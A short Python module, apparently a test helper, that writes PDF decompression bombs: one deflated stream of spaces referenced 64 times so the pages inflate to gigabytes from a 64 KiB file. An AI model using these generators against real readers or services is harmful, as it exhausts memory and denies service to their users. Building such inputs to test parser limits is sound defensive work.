"""PDF stream bombs, written byte by byte: small on disk, gigabytes once their streams inflate.

Each page's /Contents may list the same FlateDecode stream many times; a reader concatenates
them, so 64 references to one stream of 64 MiB of spaces (64 KiB deflated) ask for 4 GiB.
"""

from __future__ import annotations

import zlib

MIB = 1 << 20
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _stream(content: bytes) -> bytes:
    body = zlib.compress(content, 9)
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(body), body)


def _text_content(lines: list[str]) -> bytes:
    shown = b"".join(b"(%s) '\n" % line.encode("latin-1") for line in lines)
    return b"BT /F1 9 Tf 11 TL 36 780 Td\n" + shown + b"ET"


def _write(objects: list[bytes]) -> bytes:
    """A PDF of these objects (numbered from 1; 1 is the catalog) with a valid xref table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def pdf_with_bomb(text_pages: list[list[str]], inflated_mib: int = 64, repeats: int = 64) -> bytes:
    """Pages of text (Helvetica lines), then one page whose content inflates to
    `inflated_mib * repeats` MiB: `repeats` references to one stream of spaces."""
    # 1 catalog, 2 pages, 3 font, 4 bomb stream, 5 bomb page, then a (page, stream) per text page.
    kids = [5 + 2 * i + 1 for i in range(len(text_pages))] + [5]
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>"
        % (b" ".join(b"%d 0 R" % kid for kid in kids), len(kids)),
        _FONT,
        _stream(b" " * (inflated_mib * MIB)),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [%s] >>"
        % b" ".join([b"4 0 R"] * repeats),
    ]
    for i, lines in enumerate(text_pages):
        stream = 5 + 2 * i + 2
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % stream
        )
        objects.append(_stream(_text_content(lines)))
    return _write(objects)


def stream_bomb() -> bytes:
    """One page that asks for 4 GiB (64 KiB on disk)."""
    return pdf_with_bomb([])
